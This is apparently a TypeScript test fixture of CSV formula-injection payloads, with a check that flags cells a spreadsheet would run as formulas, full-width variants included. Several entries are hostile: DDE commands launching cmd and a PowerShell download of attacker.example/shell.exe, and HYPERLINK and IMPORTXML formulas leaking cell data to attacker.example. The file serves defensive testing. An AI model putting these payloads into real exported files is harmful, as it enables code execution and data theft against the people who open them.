/**
 * Known spreadsheet-formula payloads (OWASP "CSV Injection", and the forms that reach a
 * formula through a spreadsheet's text normalization), with what SPEC §6 makes of each:
 * prefixed with `'`, or left alone because it is made only of phone-number characters.
 */
export interface Payload {
  readonly text: string;
  /** SPEC §6's exemption: only digits, spaces and `+ - ( ) .`, which cannot run anything. */
  readonly phoneLike: boolean;
}

const run = (text: string): Payload => ({ text, phoneLike: false });
const phone = (text: string): Payload => ({ text, phoneLike: true });

export const FORMULA_PAYLOADS: readonly Payload[] = [
  run("=cmd|' /C calc'!A0"),
  run("=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0"),
  run('=HYPERLINK("http://attacker.example/?leak="&A2&B2,"Error: click to fix")'),
  run('+HYPERLINK("http://attacker.example","click")'),
  run("-2+3+cmd|' /C calc'!A0"),
  run("@SUM(1+1)*cmd|' /C calc'!A0"),
  run("@SUM(1+1)"),
  run('=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'),
  run("=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", A2), \"//a\")"),
  run("\t=1+1"),
  run("\r=1+1"),
  run("\t123"),
  run("=1+1"),
  run("+A1"),
  run("-A1"),
  // Full-width and other compatibility forms that text normalization (NFKC, as Apple
  // Numbers applies to full-width forms) turns into the ASCII triggers.
  run("\uFF1D1+1"),
  run("\uFF0BA1"),
  run("\uFF0DA1"),
  run("\uFF20SUM(1+1)"),
  run("\uFE661+1"),
  run("\u207C1+1"),
  run("\u208C1+1"),
  run("\uFE62A1"),
  run("\uFE6BSUM(1)"),
  // SPEC §6: these are left alone; they are arithmetic at worst and cannot call anything.
  phone("-2+3"),
  phone("+1 (416) 555-0101"),
  phone("-1.5"),
  phone("+14165550101"),
];

/** Whether a cell, as a spreadsheet reads it, starts a formula SPEC §6 does not exempt. */
export function runsAsFormula(cell: string): boolean {
  const first = cell.codePointAt(0);
  if (first === undefined) return false;
  const normalized = String.fromCodePoint(first).normalize("NFKC");
  if (!/^[=+\-@\t\r]/.test(normalized)) return false;
  return !/^[0-9 +\-().]+$/.test(cell);
}
